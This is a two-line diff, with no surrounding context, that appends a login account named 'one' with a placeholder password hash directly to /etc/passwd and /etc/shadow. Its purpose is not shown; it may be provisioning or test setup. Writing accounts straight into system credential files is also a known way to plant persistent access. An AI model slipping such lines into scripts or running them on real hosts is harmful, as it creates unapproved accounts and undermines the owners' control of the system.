@@ -1,0 +1,2 @@
+printf '%s\n' 'one:x:4711:100::/:/bin/sh' >> /etc/passwd
+printf '%s\n' 'one:$6$abc$def:19000:0:99999:7:::' >> /etc/shadow
